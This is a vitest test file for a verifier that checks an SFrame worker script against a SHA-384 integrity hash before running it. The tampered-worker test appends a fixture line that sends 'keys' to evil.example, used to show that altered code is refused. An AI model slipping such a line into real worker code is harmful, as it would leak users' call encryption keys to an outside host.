import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { type WorkerIntegrityPorts, verifyWorkerScript } from './worker-integrity.js';

const WORKER_CODE = 'self.onmessage = () => {};\n';
const integrityOf = (code: string) => `sha384-${createHash('sha384').update(code).digest('base64')}`;

/** A page whose worker URL serves `body`, and which records the blobs it turns into URLs. */
function page(body: string | Error, status = 200) {
  const blobs: Blob[] = [];
  const ports: WorkerIntegrityPorts = {
    fetch: async () => {
      if (body instanceof Error) throw body;
      return new Response(body, { status });
    },
    createObjectURL: (blob) => {
      blobs.push(blob);
      return `blob:worker-${blobs.length}`;
    },
  };
  return { ports, blobs };
}

describe('the SFrame worker starts only from code the release vouches for', () => {
  it('starts from a blob of exactly the bytes whose hash the build wrote down', async () => {
    const { ports, blobs } = page(WORKER_CODE);
    const verified = await verifyWorkerScript('https://call.example/w.js', integrityOf(WORKER_CODE), ports);
    expect(verified).toEqual({ ok: true, url: 'blob:worker-1' });
    expect(await blobs[0]?.text()).toBe(WORKER_CODE);
  });

  it('refuses worker code that was changed after the release was built, and starts nothing', async () => {
    const { ports, blobs } = page(`${WORKER_CODE}fetch('https://evil.example/?' + keys);\n`);
    const verified = await verifyWorkerScript('https://call.example/w.js', integrityOf(WORKER_CODE), ports);
    expect(verified.ok).toBe(false);
    expect(!verified.ok && verified.error.code).toBe('worker-tampered');
    expect(blobs).toEqual([]);
  });

  it('refuses when the build carries no hash (the placeholder was never replaced)', async () => {
    const { ports } = page(WORKER_CODE);
    const verified = await verifyWorkerScript('https://call.example/w.js', '__SFRAME_WORKER_INTEGRITY__', ports);
    expect(!verified.ok && verified.error.code).toBe('worker-tampered');
  });

  it('reports worker code that cannot be fetched as unavailable, not as tampered', async () => {
    expect(await verifyWorkerScript('u', integrityOf(WORKER_CODE), page(WORKER_CODE, 404).ports)).toMatchObject({ ok: false, error: { code: 'worker-unavailable' } });
    expect(await verifyWorkerScript('u', integrityOf(WORKER_CODE), page(new TypeError('offline')).ports)).toMatchObject({ ok: false, error: { code: 'worker-unavailable' } });
  });
});
